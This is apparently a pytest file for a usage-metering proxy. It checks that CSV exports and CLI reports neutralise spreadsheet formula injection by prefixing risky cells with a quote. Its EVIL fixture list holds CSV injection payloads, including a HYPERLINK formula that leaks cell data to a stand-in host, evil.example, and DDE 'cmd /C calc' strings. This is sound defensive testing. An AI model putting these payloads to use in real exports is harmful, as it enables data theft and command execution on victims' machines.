"""CSV formula injection (issue 14.4): no cell of an export or a report starts a formula.

Client headers (``X-Meter-User``, ``X-Meter-Session``, tags) and upstream model
names end up in ``/api/export?format=csv`` and ``meterproxy report --csv``; a
spreadsheet evaluates a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR
(OWASP's list) even when the CSV quotes it. Every text cell starting with one
of them gets a leading ``'``; the rest of the text is kept. Numbers are left
alone (they are written by meterproxy, never by a client), and JSON Lines keep
the text exactly (JSON is not evaluated).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any

import aiohttp
from click.testing import CliRunner

from meterproxy.app_state import METER
from meterproxy.cli import main
from meterproxy.csv_cells import FORMULA_STARTS, safe_cell
from meterproxy.testing import make_record
from tests.conftest import ProxyFactory

EVIL = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _records() -> list[Any]:
    records = []
    for i, text in enumerate(EVIL):
        record = make_record(model=text, user=text, session=f"{text}-{i}", tags={"team": text})
        record.error = text
        records.append(record)
    return records


def _check_cells(rows: list[dict[str, str]], columns: list[str]) -> None:
    assert rows
    for row in rows:
        for col in columns:
            cell = row[col]
            assert not cell.startswith(FORMULA_STARTS), (col, cell)
    # Nothing else is lost: the original text follows the quote.
    assert {r["model"] for r in rows} == {"'" + t for t in EVIL}


async def test_api_export_csv_neutralises_formulas(make_proxy: ProxyFactory) -> None:
    proxy = await make_proxy()
    for record in _records():
        proxy.app[METER].request_finished(record)
    await proxy.rows(len(EVIL))
    async with aiohttp.ClientSession() as client:
        async with client.get(f"{proxy.url}/api/export?format=csv") as r:
            assert r.status == 200
            text = await r.text()
        async with client.get(f"{proxy.url}/api/export?format=jsonl") as r:
            lines = [json.loads(line) for line in (await r.text()).splitlines()]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    _check_cells(rows, ["model", "requested_model", "user", "session", "error", "tags"])
    assert {r["user"] for r in rows} == {"'" + t for t in EVIL}
    # JSON Lines carry the text as it was.
    assert {line["user"] for line in lines} == set(EVIL)


async def test_report_csv_neutralises_formulas(make_proxy: ProxyFactory) -> None:
    proxy = await make_proxy()
    for record in _records():
        proxy.app[METER].request_finished(record)
    await proxy.rows(len(EVIL))

    def report(*args: str) -> str:
        result = CliRunner().invoke(main, ["report", *args, "--csv", "--db", str(proxy.db)])
        assert result.exit_code == 0, result.output
        return result.output

    by_model = await asyncio.to_thread(report, "model")
    rows = list(csv.DictReader(io.StringIO(by_model, newline="")))
    _check_cells(rows, ["model"])
    by_user = await asyncio.to_thread(report, "daily", "--group-by", "user")
    rows = list(csv.DictReader(io.StringIO(by_user, newline="")))
    assert {r["user"] for r in rows} == {"'" + t for t in EVIL}
    what_if = await asyncio.to_thread(report, "model", "--as-model", "gpt-4o")
    rows = list(csv.DictReader(io.StringIO(what_if, newline="")))
    assert all(not r["model"].startswith(FORMULA_STARTS) for r in rows)


def test_safe_cell_is_owasp_rule() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "x") == "'" + start + "x"
    for fine in ("", "gpt-4o", "a=b", "'=already", " =x", "é"):
        assert safe_cell(fine) == fine
